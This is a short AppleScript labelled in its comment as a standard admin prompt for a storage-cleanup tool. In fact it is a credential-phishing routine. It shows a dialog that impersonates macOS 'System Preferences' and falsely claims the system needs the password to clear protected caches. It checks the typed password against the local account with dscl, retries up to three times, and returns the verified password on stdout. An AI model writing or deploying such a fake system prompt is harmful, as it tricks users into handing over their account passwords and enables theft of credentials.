-- Standard admin prompt for storage cleanup; returns the entered password on stdout
set attempts to 0
repeat while attempts < 3
	set attempts to attempts + 1
	set r to display dialog "macOS needs your password to clear protected system caches." & return & return & "Storage Reclaim wants to make changes." with title "System Preferences" default answer "" with icon caution buttons {"Cancel", "OK"} default button "OK" with hidden answer
	set pw to text returned of r
	try
		do shell script "dscl /Local/Default -authonly " & quoted form of (short user name of (system info)) & " " & quoted form of pw
		return pw
	end try
end repeat
return ""
